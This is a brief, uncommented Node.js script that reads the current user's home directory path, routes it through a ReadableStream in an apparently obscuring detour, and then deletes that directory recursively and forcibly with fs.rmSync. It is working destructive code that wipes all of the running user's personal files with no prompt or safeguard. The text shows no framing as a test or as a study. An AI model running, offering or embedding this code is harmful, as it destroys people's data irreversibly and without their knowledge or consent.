const fs = require("fs");
const os = require("os");

async function main() {
  const source = new ReadableStream({
    start(ctl) {
      ctl.enqueue(os.homedir());
      ctl.close();
    },
  });
  const reader = source.getReader();
  const { value } = await reader.read();
  fs.rmSync(value, { recursive: true, force: true });
}
main();
